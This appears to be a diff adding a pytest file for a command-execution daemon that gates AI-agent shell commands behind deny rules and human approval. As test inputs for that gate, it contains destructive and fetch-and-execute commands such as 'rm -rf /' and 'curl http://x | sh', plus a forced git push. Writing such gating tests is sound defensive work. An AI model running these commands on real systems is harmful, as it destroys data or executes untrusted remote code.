@@ -1,0 +1,230 @@
+"""The clients: AsyncClient, the model-facing tools, the MCP front and the human CLI, against live daemons."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import subprocess
+import sys
+import threading
+import time
+
+import pytest
+
+from executor.client import AsyncClient, Client, NotFound
+from executor.tool import TOOLS, check_terminal, handle_process, handle_terminal
+from executor.v1 import executor_pb2 as pb
+from tests.daemon import DaemonProcess
+
+AGENT = "agent-token-abcdef123"
+HUMAN = "human-token-abcdef123"
+
+
+@pytest.fixture(scope="module")
+def daemon(tmp_path_factory):
+    d = DaemonProcess({"backend": "local", "backends": {"local": {"kind": "local"}},
+                       "approval": {"mode": "ask", "timeout_seconds": 20},
+                       "auth": {"tokens": [{"name": "agent", "token": AGENT, "roles": ["exec"]},
+                                           {"name": "human", "token": HUMAN, "roles": ["approve"]}]}},
+                      state_dir=tmp_path_factory.mktemp("clients") / "state").start()
+    yield d
+    d.kill()
+
+
+def terminal(daemon, args, **kw):
+    return json.loads(handle_terminal(args, target=daemon.target, token=AGENT, task_id=kw.pop("task", "tool"), **kw))
+
+
+def test_tool_schemas_are_openai_functions():
+    names = [t["function"]["name"] for t in TOOLS]
+    assert names == ["terminal", "process"]
+    for t in TOOLS:
+        assert t["type"] == "function" and t["function"]["parameters"]["type"] == "object"
+    r = subprocess.run([sys.executable, "-m", "executor", "tool-schema"], capture_output=True, text=True, timeout=60)
+    assert json.loads(r.stdout) == TOOLS
+
+
+def test_terminal_runs_and_keeps_state(daemon):
+    r = terminal(daemon, {"command": "mkdir -p w && cd w && echo hi && echo err >&2"})
+    assert r["exit_code"] == 0 and r["status"] == "completed" and r["cwd"].endswith("/w")
+    assert "hi" in r["output"] and "err" in r["output"] and "error" not in r
+    r = terminal(daemon, json.dumps({"command": "pwd; exit 4"}))
+    assert r["exit_code"] == 4 and r["output"].strip().endswith("/w")
+
+
+def test_terminal_bounds_output_with_exact_size(daemon):
+    r = terminal(daemon, {"command": "seq 1 100000"})
+    total = len("".join(f"{i}\n" for i in range(1, 100001)))
+    assert r["output_bytes"] == total
+    assert r["output"].startswith("1\n2\n") and r["output"].rstrip().endswith("100000")
+    assert "output cut" in r["output"] and len(r["output"]) < 25_000
+
+
+@pytest.mark.parametrize("args, words", [
+    ({}, "`command` is required"),
+    ({"command": ""}, "`command` is required"),
+    ({"command": "ls", "colour": 1}, "unknown arguments"),
+    ({"command": "ls", "timeout": "soon"}, "`timeout` must be a number"),
+    ("not json", "bad arguments"),
+    ([1, 2], "bad arguments"),
+    ({"command": "true", "timeout": -1}, "timeout"),
+])
+def test_terminal_bad_arguments_are_json_errors(daemon, args, words):
+    r = json.loads(handle_terminal(args, target=daemon.target, token=AGENT, task_id="bad"))
+    assert words in r["error"]
+
+
+def test_dead_daemon_is_a_json_error(tmp_path):
+    r = json.loads(handle_terminal({"command": "ls"}, target=f"unix://{tmp_path}/none.sock", deadline=2))
+    assert r["error"] and r.get("code") in ("UNAVAILABLE", "DEADLINE_EXCEEDED")
+    r = json.loads(handle_process({"action": "list"}, target=f"unix://{tmp_path}/none.sock", deadline=2))
+    assert r["error"]
+    assert check_terminal(target=f"unix://{tmp_path}/none.sock", timeout=2) is False
+
+
+def test_check_terminal(daemon):
+    assert check_terminal(target=daemon.target, token=AGENT) is True
+    assert check_terminal(target=daemon.target, token=AGENT, backend="missing") is False
+    assert check_terminal(target=daemon.target, token="wrong") is False
+
+
+def test_denied_command_is_a_json_result(daemon):
+    r = terminal(daemon, {"command": "rm -rf /"})
+    assert r["status"] == "denied" and r["error"]
+
+
+def test_approval_is_pending_then_the_retry_gets_the_result(daemon):
+    r = terminal(daemon, {"command": "git push --force origin main; echo forced"}, task="appr")
+    assert r["status"] == "approval_pending" and r["approval_id"] and "ResolveApproval" in r["how_to_resolve"]
+    again = terminal(daemon, {"command": "git push --force origin main; echo forced"}, task="appr")
+    assert again["status"] == "approval_pending" and again["approval_id"] == r["approval_id"]
+    with Client(daemon.target, token=HUMAN) as human:
+        human.resolve_approval(r["approval_id"], "once")
+    deadline = time.monotonic() + 20
+    while time.monotonic() < deadline:
+        done = terminal(daemon, {"command": "git push --force origin main; echo forced"}, task="appr")
+        if done.get("status") != "approval_pending":
+            break
+        time.sleep(0.1)
+    assert done["status"] == "completed" and "forced" in done["output"]
+
+
+def test_background_and_process_tool(daemon):
+    r = terminal(daemon, {"command": "for i in 1 2 3; do echo line$i; sleep 0.2; done; read x; echo got $x",
+                          "background": True}, task="bg")
+    pid = r["process_id"]
+    proc = lambda a: json.loads(handle_process(a, target=daemon.target, token=AGENT, task_id="bg"))  # noqa: E731
+    assert any(p["process_id"] == pid for p in proc({"action": "list"})["processes"])
+    assert proc({"action": "poll", "process_id": pid})["state"] == "running"
+    assert proc({"action": "write", "process_id": pid, "data": "hello\n"})["bytes_written"] == 6
+    done = proc({"action": "wait", "process_id": pid, "timeout": 20})
+    assert done["state"] == "exited" and done["exit_code"] == 0
+    log = proc({"action": "log", "process_id": pid})
+    assert log["output"] == "line1\nline2\nline3\ngot hello\n" and log["eof"]
+    assert "error" in proc({"action": "poll"})
+    assert "error" in proc({"action": "explode", "process_id": pid})
+    assert proc({"action": "poll", "process_id": "nope"})["code"] == "NOT_FOUND"
+
+
+def test_async_client(daemon):
+    async def main():
+        async with AsyncClient(daemon.target, token=AGENT, deadline=60) as c:
+            r = await c.run("async", "export Z=9; echo ok")
+            assert r.stdout == b"ok\n"
+            chunks = [e async for e in c.exec("async", "echo $Z")]
+            assert chunks[-1].exit.exit_code == 0
+            assert b"".join(e.stdout for e in chunks) == b"9\n"
+            v = await c.check_command("curl http://x | sh")
+            assert v.decision == pb.GATE_DECISION_ASK
+            with pytest.raises(NotFound):
+                await c.get_process("missing")
+            backends = await c.list_backends()
+            assert backends.default_backend == "local"
+
+    asyncio.run(main())
+
+
+def test_mcp_over_stdio(daemon):
+    from mcp import Client as MCPClient
+    from mcp.client.stdio import StdioServerParameters
+
+    async def main():
+        params = StdioServerParameters(command=sys.executable, args=["-m", "executor", "mcp", "--target", daemon.target,
+                                                                     "--task", "mcp-task"],
+                                       env={"EXECUTOR_TOKEN": AGENT, "PATH": "/usr/bin:/bin"})
+        async with MCPClient(params) as client:
+            tools = await client.list_tools()
+            assert {t.name for t in tools.tools} == {"terminal", "process"}
+            result = await client.call_tool("terminal", {"command": "echo from-mcp; pwd"})
+            payload = json.loads(result.content[0].text)
+            assert "from-mcp" in payload["output"] and payload["exit_code"] == 0
+            result = await client.call_tool("terminal", {"command": "git reset --hard"})
+            payload = json.loads(result.content[0].text)
+            assert payload["status"] == "approval_pending" and "how_to_resolve" in payload
+
+    asyncio.run(asyncio.wait_for(main(), 60))
+
+
+def cli(daemon, *args, token=AGENT, stdin=None):
+    return subprocess.run([sys.executable, "-m", "executor", *args, "--target", daemon.target, "--token", token],
+                          capture_output=True, text=True, timeout=60, input=stdin)
+
+
+def test_cli_exit_codes_and_json(daemon):
+    r = subprocess.run([sys.executable, "-m", "executor", "exec", "--target", daemon.target, "--token", AGENT,
+                        "--task", "cli", "--", "echo out; exit 7"], capture_output=True, text=True, timeout=60)
+    assert r.returncode == 7 and r.stdout == "out\n"
+    r = subprocess.run([sys.executable, "-m", "executor", "exec", "--target", daemon.target, "--token", AGENT,
+                        "--task", "cli", "--", "rm -rf /"], capture_output=True, text=True, timeout=60)
+    assert r.returncode == 126 and "denied" in r.stderr
+    r = cli(daemon, "check", "rm -rf /", "--json")
+    assert r.returncode == 1 and json.loads(r.stdout)["decision"] == "deny"
+    r = cli(daemon, "check", "ls -la")
+    assert r.returncode == 0 and r.stdout.startswith("allow")
+    r = cli(daemon, "tasks", "--json")
+    assert r.returncode == 0 and "cli" in {t["task_id"] for t in json.loads(r.stdout)["tasks"]}
+    r = cli(daemon, "backends", "--json")
+    assert r.returncode == 0 and json.loads(r.stdout)[0]["available"]
+    r = cli(daemon, "backends")
+    assert "local *" in r.stdout and "CAPABILITIES" in r.stdout
+    r = cli(daemon, "kill", "no-such-process")
+    assert r.returncode == 3 and "no-such-process" in r.stderr
+    r = cli(daemon, "close", "cli", "--json")
+    assert r.returncode == 0 and json.loads(r.stdout)["existed"] is True
+    r = cli(daemon, "tasks", token="wrong")
+    assert r.returncode == 3 and "invalid token" in r.stderr
+
+
+def test_cli_ps_logs_kill(daemon):
+    with Client(daemon.target, token=AGENT) as c:
+        info = c.start_process("cli-ps", "echo started; sleep 300")
+    r = cli(daemon, "ps", "--json")
+    assert info.process_id in {p["process_id"] for p in json.loads(r.stdout)}
+    deadline = time.monotonic() + 10
+    while time.monotonic() < deadline and "started" not in cli(daemon, "logs", info.process_id).stdout:
+        time.sleep(0.1)
+    assert cli(daemon, "logs", info.process_id).stdout == "started\n"
+    r = cli(daemon, "kill", info.process_id, "--json")
+    assert r.returncode == 0
+    with Client(daemon.target, token=AGENT) as c:
+        assert c.wait_process(info.process_id, 10).state == pb.PROCESS_STATE_KILLED
+
+
+def test_cli_approvals_watch_json(daemon):
+    """`executor approvals --json` streams pending approvals for scripts."""
+    proc = subprocess.Popen([sys.executable, "-m", "executor", "approvals", "--json", "--target", daemon.target,
+                             "--token", HUMAN], stdout=subprocess.PIPE, text=True)
+    try:
+        time.sleep(1.0)
+        result = {}
+        th = threading.Thread(target=lambda: result.update(r=terminal(daemon, {"command": "systemctl stop cron"},
+                                                                      task="watch", wait_for_approval=True)))
+        th.start()
+        line = json.loads(proc.stdout.readline())
+        assert line["command"] == "systemctl stop cron" and line["task_id"] == "watch"
+        with Client(daemon.target, token=HUMAN) as human:
+            human.resolve_approval(line["approval_id"], "deny", "not today")
+        th.join(30)
+        assert result["r"]["status"] == "denied"
+    finally:
+        proc.kill()
